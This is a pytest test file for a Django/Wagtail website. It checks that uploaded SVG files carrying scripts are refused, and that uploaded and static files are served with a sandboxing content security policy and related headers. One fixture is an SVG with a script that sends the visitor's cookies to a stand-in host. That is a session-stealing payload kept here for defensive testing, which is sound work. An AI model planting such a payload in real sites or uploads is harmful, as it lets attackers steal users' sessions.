"""Uploaded and static files never run as the site: an SVG or HTML that carries a script, opened on
its own, gets no script, no plugins and no framing (website/middleware.py FILE_POLICY)."""

import io

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image as PILImage
from wagtail.documents.models import Document
from wagtail.images.models import Image
from wagtail.models import Collection

from website.middleware import FILE_POLICY

SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>document.location='https://example.com/?'+document.cookie</script>"
    b'<rect width="10" height="10" style="fill:red"/></svg>'
)


def assert_file_headers(response):
    assert response["Content-Security-Policy"] == FILE_POLICY
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["X-Frame-Options"] == "DENY"
    assert "camera=()" in response["Permissions-Policy"]


@pytest.fixture
def editor(db):
    user = get_user_model().objects.create_superuser("redaktor", "redaktor@example.se", "hemligt-123")
    client = Client()
    client.force_login(user)
    return client


def _upload_document(editor, name, content):
    return editor.post(
        "/admin/documents/add/",
        {"title": name, "file": SimpleUploadedFile(name, content), "collection": Collection.get_first_root_node().pk},
    )


def _png():
    buffer = io.BytesIO()
    PILImage.new("RGB", (4, 4), "green").save(buffer, "PNG")
    return buffer.getvalue()


def test_an_svg_document_with_a_script_is_refused(editor):
    response = _upload_document(editor, "karta.svg", SVG_WITH_SCRIPT)
    assert response.status_code == 200
    assert not Document.objects.exists()


def test_an_svg_image_with_a_script_is_refused_and_a_png_accepted(editor):
    collection = Collection.get_first_root_node().pk
    svg = editor.post(
        "/admin/images/add/",
        {
            "title": "Karta",
            "file": SimpleUploadedFile("karta.svg", SVG_WITH_SCRIPT, "image/svg+xml"),
            "collection": collection,
        },
    )
    assert svg.status_code == 200 and not Image.objects.exists()
    png = editor.post(
        "/admin/images/add/",
        {"title": "Karta", "file": SimpleUploadedFile("karta.png", _png(), "image/png"), "collection": collection},
    )
    assert png.status_code == 302 and Image.objects.count() == 1


def test_a_document_carrying_svg_script_is_served_sandboxed(editor):
    # Allowed as text; a browser sniffing it as SVG or HTML would run the script on the site's origin.
    response = _upload_document(editor, "karta.txt", SVG_WITH_SCRIPT)
    assert response.status_code == 302
    document = Document.objects.get()
    served = Client().get(document.url)
    assert served.status_code == 200
    assert b"".join(served.streaming_content) == SVG_WITH_SCRIPT
    assert_file_headers(served)


def test_static_files_are_served_sandboxed(settings):
    settings.WHITENOISE_USE_FINDERS = True
    settings.WHITENOISE_AUTOREFRESH = True
    served = Client().get("/static/css/site.css")
    assert served.status_code == 200
    assert_file_headers(served)


def test_pages_keep_their_own_policy(db, client):
    response = client.get("/konto/login/")
    assert response["Content-Security-Policy"] != FILE_POLICY
    assert "script-src 'self'" in response["Content-Security-Policy"]
